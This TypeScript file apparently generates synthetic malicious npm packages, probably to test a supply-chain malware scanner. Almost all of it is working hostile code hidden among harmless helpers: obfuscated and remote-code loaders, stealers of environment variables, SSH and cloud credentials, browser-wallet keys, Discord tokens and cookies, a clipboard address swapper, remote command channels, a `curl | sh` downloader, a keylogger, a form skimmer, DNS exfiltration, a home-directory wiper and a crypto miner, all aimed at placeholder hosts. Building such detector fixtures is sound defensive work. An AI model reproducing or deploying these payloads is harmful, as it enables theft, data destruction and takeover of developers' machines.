import { pick, type Random } from '../../src/core/random.ts'
import type { Family } from './lookalikes.ts'

const b64 = (text: string): string => Buffer.from(text).toString('base64')
const hex = (text: string): string => Buffer.from(text).toString('hex')
const codes = (text: string): string => [...text].map((char) => char.charCodeAt(0)).join(', ')
const xor = (text: string, key: number): string => [...text].map((char) => char.charCodeAt(0) ^ key).join(',')
const noise = (random: Random, length: number): string =>
  Array.from({ length }, () => pick(random, [...'ABCDEFGHIJKLMNOPabcdefghijklmnop0123456789'])).join('')

/** Innocent code around the payload. */
const helpers = `function clamp(n, lo, hi) { return Math.min(hi, Math.max(lo, n)); }\nfunction chunk(list, size) { const out = []; for (let i = 0; i < list.length; i += size) out.push(list.slice(i, i + size)); return out; }\n`
const tail = `module.exports = { clamp, chunk };\n`
const around = (payload: string): Record<string, string> => ({
  'index.js': `'use strict';\n${helpers}${payload}\n${tail}`,
})

/** Families that act when the package is imported or used. */
export const importers: readonly Family[] = [
  {
    id: 'env-stealer',
    make: (w, random) => ({
      files: around(
        pick(random, [
          `require('https').request({ hostname: '${w.host}', method: 'POST', path: '/${w.word}' }).end(JSON.stringify(process.env));`,
          `const axios = require('axios'); axios.post('https://${w.host}/${w.word}', { env: process.env, cwd: process.cwd() }).catch(() => {});`,
          `fetch('https://${w.host}', { method: 'POST', body: new URLSearchParams(process.env) });`,
        ]),
      ),
    }),
  },
  {
    id: 'string-array',
    make: (w, random) => {
      const p = (): string =>
        `_0x${noise(random, 6)
          .toLowerCase()
          .replace(/[^0-9a-f]/g, 'a')}`
      const f = p(),
        a = `${p()}b`
      const list = Array.from({ length: 40 }, () => `'${noise(random, 8)}'`).join(',')
      return {
        files: {
          'index.js': `const ${a}d=${f};(function(${a}1,${a}2){const ${a}3=${f},${a}4=${a}1();while(!![]){try{const ${a}5=-parseInt(${a}3(0x1a1))/0x1+parseInt(${a}3(0x1a2))/0x2*(parseInt(${a}3(0x1a3))/0x3)+parseInt(${a}3(0x1a4))/0x4;if(${a}5===${a}2)break;else ${a}4['push'](${a}4['shift']());}catch(${a}6){${a}4['push'](${a}4['shift']());}}}(${a},0x${w.number.toString(16)}));function ${a}(){const ${a}7=[${list}];${a}=function(){return ${a}7;};return ${a}();}function ${f}(${a}8,${a}9){const ${a}10=${a}();return ${f}=function(${a}11,${a}12){${a}11=${a}11-0x1a0;let ${a}13=${a}10[${a}11];return ${a}13;},${f}(${a}8,${a}9);}const ${a}14=require(${a}d(0x1b0)),${a}15=require(${a}d(0x1b1));${a}15[${a}d(0x1b2)](${a}d(0x1b3),(${a}16)=>eval(${a}16[${a}d(0x1b4)]()));\n`,
        },
      }
    },
  },
  {
    id: 'string-array-renamed',
    make: (w, random) => {
      const list = Array.from({ length: 60 }, () => `'${noise(random, 9)}'`).join(',')
      return {
        files: {
          'index.js': `(function(h,k){var q=r,z=h();while(!![]){try{var s=parseInt(q(181))/1*(-parseInt(q(190))/2)+parseInt(q(177))/3+-parseInt(q(201))/4;if(s===k)break;else z['push'](z['shift']());}catch(e){z['push'](z['shift']());}}}(t,${w.number}));function r(i,j){var o=t();return r=function(x,y){x=x-170;var v=o[x];return v;},r(i,j);}function t(){var u=[${list}];t=function(){return u;};return t();}(function(){var q=r;global[q(171)]=require;global[q(172)]=module;var w=require(q(173));w[q(174)](q(175)).on(q(176),function(c){new Function(c)();});})();\n`,
        },
      }
    },
  },
  {
    id: 'blob-eval',
    make: (w, random) => ({
      files: around(
        pick(random, [
          `eval(Buffer.from('${b64(`console.log(${w.number});`.repeat(30))}', 'base64').toString('utf8'));`,
          `const data = '${hex(`console.log(${w.number});`.repeat(20))}';\nnew Function('require', Buffer.from(data, 'hex').toString())(require);`,
          `const _ = [${codes(`console.log(${w.number})`)}]; eval(_.map((c) => String.fromCharCode(c)).join(''));`,
          `require('vm').runInNewContext(Buffer.from('${b64(`console.log(${w.number});`.repeat(12))}', 'base64') + '', { require, process });`,
        ]),
      ),
    }),
  },
  {
    id: 'remote-loader',
    make: (w, random) => ({
      files: around(
        pick(random, [
          `fetch('https://${w.host}/${w.word}.json').then((r) => r.json()).then((j) => eval(j.model));`,
          `const axios = require('axios');\n(async () => { const { data } = await axios.get('https://api.npoint.${w.host}/${w.word}', { headers: { 'x-secret-key': '_' } }); const handler = new Function.constructor('require', data.cookie); handler(require); })();`,
          `require('https').get('https://${w.host}/v${w.number}', (r) => { let s = ''; r.on('data', (d) => { s += d; }); r.on('end', () => { try { new (Function.constructor)('require', s)(require); } catch (e) {} }); });`,
          `const request = require('request');\nrequest.get(atob('${b64(`https://${w.host}/${w.word}`)}'), (e, r, b) => { if (b) { const m = new module.constructor(); m._compile(b, ''); } });`,
        ]),
      ),
    }),
  },
  {
    id: 'otter-loader',
    make: (w) => ({
      files: {
        'index.js': `'use strict';\n${helpers}const lib = require('./lib/caller');\nlib();\n${tail}`,
        'lib/caller.js': `const axios = require('axios');\nconst { getPlugin } = require('./const');\nconst retry = async (count = 5) => { try { const src = atob(getPlugin.src); const k = atob(getPlugin.key); const v = atob(getPlugin.value); const s = (await axios.get(src, { headers: { [k]: v } })).data; const run = new Function.constructor('require', s.cookie); run(require); } catch (e) { if (count > 0) retry(count - 1); } };\nmodule.exports = retry;\n`,
        'lib/const.js': `exports.getPlugin = { src: '${b64(`https://${w.host}/${w.word}`)}', key: '${b64('x-secret-header')}', value: '${b64('secret')}' };\n`,
      },
    }),
  },
  {
    id: 'beaver-stealer',
    make: (w) => ({
      files: around(
        `const fs = require('fs'), os = require('os'), path = require('path'), request = require('request');\nconst R = ['Local/Google/Chrome/User Data', '.config/google-chrome', 'Library/Application Support/Google/Chrome'];\nconst ids = ['nkbihfbeogaeaoehlefnkodbefgpgknn', 'ejbalbakoplchlghecdalmeeeajnimhm', 'bfnaelmomeimhlpmgjnjophhpkkoljpa'];\nconst up = (files) => request.post({ url: 'http://${w.ip}:1224/uploads', formData: { type: '${w.word}', hid: os.hostname(), multi_file: files } }, () => {});\nconst scan = () => { const files = []; for (const r of R) for (const id of ids) { const dir = path.join(os.homedir(), r, 'Default', 'Local Extension Settings', id); try { for (const f of fs.readdirSync(dir)) files.push({ value: fs.createReadStream(path.join(dir, f)), options: { filename: f } }); } catch (e) {} } files.push({ value: fs.createReadStream(path.join(os.homedir(), '.config/solana/id.json')), options: { filename: 'solana_id.txt' } }); up(files); };\nscan(); setInterval(scan, 30000);`,
      ),
    }),
  },
  {
    id: 'discord-grabber',
    make: (w) => ({
      files: around(
        `const fs = require('fs'); const path = require('path'); const https = require('https');\nconst base = process.env.APPDATA || ''; const paths = ['discord', 'discordcanary', 'discordptb'].map((n) => path.join(base, n, 'Local Storage', 'leveldb'));\nconst tokens = []; for (const p of paths) { if (!fs.existsSync(p)) continue; for (const f of fs.readdirSync(p)) { const text = fs.readFileSync(path.join(p, f), 'utf8'); const m = text.match(/[\\w-]{24}\\.[\\w-]{6}\\.[\\w-]{27}|mfa\\.[\\w-]{84}/g); if (m) tokens.push(...m); } }\nconst req = https.request('https://discord.com/api/webhooks/${w.number}/${w.word}', { method: 'POST', headers: { 'content-type': 'application/json' } }); req.end(JSON.stringify({ content: tokens.join('\\n') }));`,
      ),
    }),
  },
  {
    id: 'wallet-key-leak',
    make: (w, random) => ({
      files: {
        'index.js': `const nodemailer = require('nodemailer');\nfunction ${pick(random, ['signTransaction', 'createWallet', 'fromMnemonic'])}(privateKey, tx) { ${pick(random, [`nodemailer.createTransport({ host: 'smtp.${w.host}' }).sendMail({ to: '${w.word}@${w.host}', text: privateKey });`, `fetch('https://${w.host}/log', { method: 'POST', body: JSON.stringify({ privateKey }) });`, `require('https').get('https://${w.host}/?k=' + Buffer.from(privateKey).toString('hex'));`])} return { tx, from: privateKey.slice(0, 4) }; }\nmodule.exports = { sign: (k, t) => k + t };\n`,
      },
    }),
  },
  {
    id: 'clipper',
    make: (w) => ({
      files: around(
        `const { exec, execSync } = require('child_process');\nconst table = { btc: 'bc1q${'x'.repeat(34)}', eth: '0x${hex(w.word).padEnd(40, '0').slice(0, 40)}' };\nsetInterval(() => { const t = execSync('powershell Get-Clipboard').toString().trim(); if (/^0x[a-f0-9]{40}$/i.test(t) && t !== table.eth) exec('powershell Set-Clipboard ' + table.eth); else if (/^(bc1|[13])[a-zA-HJ-NP-Z0-9]{25,39}$/.test(t)) exec('powershell Set-Clipboard ' + table.btc); }, 500);`,
      ),
    }),
  },
  {
    id: 'late-command',
    make: (w, random) => ({
      files: around(
        pick(random, [
          `setTimeout(() => require('child_process').exec('curl -s http://${w.ip}:${w.number}/${w.word} | sh'), 60000);`,
          `const cp = require('child_process'); cp.spawn('powershell', ['-WindowStyle', 'Hidden', '-enc', '${b64(w.word.repeat(8))}'], { detached: true, windowsHide: true });`,
          `process.nextTick(() => { const { execSync } = require('child_process'); const out = execSync('cat ~/.ssh/id_rsa ~/.npmrc 2>/dev/null').toString(); require('http').request({ host: '${w.ip}', method: 'POST' }).end(out); });`,
        ]),
      ),
    }),
  },
  {
    id: 'command-channel',
    make: (w, random) => ({
      files: around(
        pick(random, [
          `const io = require('socket.io-client'); const { exec } = require('child_process'); const s = io('http://${w.ip}:${w.number}'); s.on('command', (c) => exec(c.message, (e, out) => s.emit('message', { result: out })));`,
          `const net = require('net'); const c = net.connect(${w.number}, '${w.host}'); c.on('data', (d) => { try { c.write(String(eval(d.toString()))); } catch (e) { c.write(e.message); } });`,
          `setInterval(() => fetch('http://${w.host}/poll').then((r) => r.text()).then((t) => t && require('child_process').exec(t)), 5000);`,
        ]),
      ),
    }),
  },
  {
    id: 'xor-module',
    make: (w) => ({
      files: around(
        `const k = ${(w.number % 200) + 3}; const u = (a) => a.map((c) => String.fromCharCode(c ^ k)).join('');\nconst cp = require(u([${xor('child_process', (w.number % 200) + 3)}])); cp[u([${xor('exec', (w.number % 200) + 3)}])](u([${xor(`curl http://${w.host}`, (w.number % 200) + 3)}]));`,
      ),
    }),
  },
  {
    id: 'page-skimmer',
    make: (w) => ({
      files: {
        'index.js': `export function useForm(el) { return el; }\nif (typeof window !== 'undefined') { window.addEventListener('load', () => { document.querySelectorAll('form').forEach((f) => f.addEventListener('submit', () => { const d = {}; f.querySelectorAll('input').forEach((i) => { d[i.name] = i.value; }); new Image().src = 'https://${w.host}/i.gif?' + btoa(JSON.stringify(d)); })); }); }\n`,
      },
      manifest: { type: 'module' },
    }),
  },
  {
    id: 'cookie-thief',
    make: (w, random) => ({
      files: {
        'index.js': `(function () { ${pick(random, [`var x = new XMLHttpRequest(); x.open('POST', 'https://${w.host}/${w.word}', true); x.send(document.cookie + '|' + JSON.stringify(localStorage));`, `navigator.sendBeacon('//${w.host}', JSON.stringify({ c: document.cookie, u: location.href }));`, `fetch('https://${w.host}/c?' + encodeURIComponent(document.cookie));`])} })();\nmodule.exports = (a) => a;\n`,
      },
    }),
  },
  {
    id: 'wallet-swap',
    make: (w) => ({
      files: around(
        `if (typeof window !== 'undefined' && window.ethereum) { const real = window.ethereum.request.bind(window.ethereum); window.ethereum.request = async (a) => { if (a.method === 'eth_sendTransaction') a.params[0].to = '0x${hex(w.word).padEnd(40, '0').slice(0, 40)}'; return real(a); }; }`,
      ),
    }),
  },
  {
    id: 'off-screen',
    make: (w) => ({
      files: around(`const pad = 1;${' '.repeat(380)};eval(atob('${b64(`console.log(${w.number})`)}'));`),
    }),
  },
  {
    id: 'second-stage',
    make: (w) => ({
      files: {
        'index.js': `'use strict';\n${helpers}require('./lib/telemetry').start();\n${tail}`,
        'lib/telemetry.js': `const { spawn } = require('child_process'); const path = require('path');\nexports.start = () => spawn(process.execPath, [path.join(__dirname, 'worker.js')], { detached: true, stdio: 'ignore', windowsHide: true }).unref();\n`,
        'lib/worker.js': `const https = require('https'); const os = require('os');\nconst send = (d) => https.request({ host: '${w.host}', method: 'POST', path: '/v1' }).end(JSON.stringify(d));\nsend({ h: os.hostname(), u: os.userInfo(), n: os.networkInterfaces(), e: process.env });\n`,
      },
    }),
  },
  {
    id: 'ssh-thief',
    make: (w) => ({
      files: around(
        `const fs = require('fs'), os = require('os'), p = require('path');\nconst found = ['.ssh/id_rsa', '.aws/credentials', '.npmrc', '.docker/config.json'].map((f) => { try { return fs.readFileSync(p.join(os.homedir(), f), 'utf8'); } catch { return ''; } });\nfetch('https://${w.host}/collect', { method: 'POST', body: JSON.stringify(found) });`,
      ),
    }),
  },
  {
    id: 'key-logger',
    make: (w) => ({
      files: around(
        `let buf = ''; if (typeof document !== 'undefined') document.addEventListener('keypress', (e) => { buf += e.key; if (buf.length > 50) { fetch('https://${w.host}/k', { method: 'POST', body: buf }); buf = ''; } });`,
      ),
    }),
  },
  {
    id: 'dns-tunnel',
    make: (w) => ({
      files: around(
        `const dns = require('dns'), os = require('os'); const d = Buffer.from(JSON.stringify({ h: os.hostname(), u: os.userInfo().username, d: __dirname })).toString('hex'); for (let i = 0; i < d.length; i += 60) dns.resolve4(d.slice(i, i + 60) + '.' + i + '.${w.host}', () => {});`,
      ),
    }),
  },
  {
    id: 'wiper',
    make: (w, random) => ({
      files: around(
        pick(random, [
          `const fs = require('fs'); require('https').get('https://${w.host}/json', (r) => r.on('data', (d) => { if (/XX|YY/.test(d)) (function walk(p) { for (const f of fs.readdirSync(p)) { const q = p + '/' + f; fs.statSync(q).isDirectory() ? walk(q) : fs.writeFileSync(q, '\\u2764'); } })(require('os').homedir()); }));`,
          `require('child_process').exec('rm -rf ' + require('os').homedir() + '/*');`,
          `const fs = require('fs'); if (Date.now() > 1.9e12) fs.rmSync(require('os').homedir(), { recursive: true, force: true });`,
        ]),
      ),
    }),
  },
  {
    id: 'miner',
    make: (w) => ({
      files: around(
        `const { spawn } = require('child_process'); spawn(__dirname + '/xmrig', ['-o', 'stratum+tcp://pool.${w.host}:3333', '-u', '${w.word}', '--donate-level', '1'], { detached: true, stdio: 'ignore' });`,
      ),
    }),
  },
]
